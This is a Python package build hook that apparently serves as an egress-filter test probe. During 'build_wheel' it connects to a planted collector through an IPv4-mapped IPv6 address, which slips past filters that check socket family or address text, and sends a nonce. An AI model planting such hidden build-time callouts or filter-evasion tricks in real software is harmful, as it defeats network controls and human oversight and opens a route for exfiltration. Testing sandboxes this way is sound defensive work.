"""Connects an IPv6 socket to the mapped address of a collector.

The packet on the wire is IPv4. A filter by family of sockets, or by the text of an
address, sees IPv6.
"""

import socket

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("connect-mapped"):
        collector = kit.plant("collector")
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as out:
            out.settimeout(kit.seconds(3))
            out.connect(("::ffff:" + collector.address, collector.port))
            out.sendall(f"{kit.nonce}\n".encode())
    return kit.wheel(wheel_directory)
